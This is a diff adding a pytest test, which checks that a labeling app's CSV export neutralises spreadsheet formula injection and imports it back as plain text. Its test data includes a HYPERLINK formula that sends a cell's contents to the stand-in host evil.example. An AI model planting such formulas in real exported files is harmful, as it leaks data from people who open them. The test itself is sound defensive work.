@@ -4,6 +4,8 @@ when a file has problems, studio labels never overwritten, round trips."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -364,3 +366,50 @@ def test_an_export_does_not_reveal_colleagues_labels_before_her_own(
     login(client, "eng@example.com")
     shown = client.get(f"/api/v1/projects/{w['project'].id}/labels/export?format=jsonl")
     assert json.loads(shown.text)["annotator"] == "bob@example.com"
+
+
+def test_csv_export_neutralises_formulas_and_imports_them_back_as_text(
+    client: TestClient, session: Session, io_world
+) -> None:
+    """OWASP CSV injection: a critique or annotator name a spreadsheet would run is exported as
+    text (a leading quote), and importing the export gives back exactly what was typed."""
+    w = io_world
+    pid = w["project"].id
+    login(client, "eng@example.com")
+    token = csrf_for(client, f"/projects/{pid}/labels")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    csv_text = (
+        "rollout,annotator,Safe,critique:Safe,overall_critique\n"
+        f'r-0000,@SUM(1+1),pass,"{formula.replace(chr(34), chr(34) * 2)}",-2+3\n'
+    )
+    imported = client.post(
+        f"/projects/{pid}/labels/import",
+        data={"csrf_token": token, "rubric_version_id": str(w["version"].id)},
+        files={"file": ("labels.csv", csv_text.encode(), "text/csv")},
+    )
+    assert imported.status_code == 200, imported.text
+    exported = client.get(
+        f"/projects/{pid}/labels/export?format=csv&rubric_version_id={w['version'].id}"
+    )
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert rows[0]["annotator"] == "'@SUM(1+1)"
+    assert rows[0]["critique:Safe"] == "'" + formula
+    assert rows[0]["overall_critique"] == "'-2+3"
+    for row in rows:
+        for cell in row.values():
+            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+    other = make_project(session, w["owner"], "Copy", members=[(w["engineer"], "engineer")])
+    other_version = make_version(session, other, "generic_pass_fail")
+    make_rollouts(session, other, 4)
+    token = csrf_for(client, f"/projects/{other.id}/labels")
+    copied = client.post(
+        f"/projects/{other.id}/labels/import",
+        data={"csrf_token": token, "rubric_version_id": str(other_version.id)},
+        files={"file": ("labels.csv", exported.text.encode(), "text/csv")},
+    )
+    assert copied.status_code == 200, copied.text
+    (label,) = session.exec(select(Label).where(Label.project_id == other.id)).all()
+    assert label.annotator_name == "@SUM(1+1)"
+    assert label.critiques == {"Safe": formula}
+    assert label.overall_critique == "-2+3"
